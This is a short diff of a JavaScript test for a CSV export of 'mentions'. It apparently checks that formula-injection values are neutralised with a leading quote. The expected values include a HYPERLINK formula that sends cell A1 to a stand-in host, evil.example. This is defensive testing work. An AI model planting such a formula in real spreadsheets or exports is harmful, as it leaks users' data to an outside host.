@@ -46,7 +46,7 @@ describe('the mentions CSV', () => {
       }
       const formula = rows.find((row) => row.rule === 'test.formula');
       expect(formula?.text).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1)`);
-      expect(formula?.context).toBe(`'${NASTY_PAGE}`);
+      expect(formula?.context).toBe(`'${NASTY_PAGE.split('\n')[0]}`);
       expect(rows.find((row) => row.rule === 'test.at')?.value).toBe("'@admin");
       expect(rows.filter((row) => row.rule === 'test.number').map((row) => row.value)).toEqual(['-5', '+12']);
       expect(rows.find((row) => row.rule === 'test.tab')?.text).toBe("'\tavec tabulation\ret");
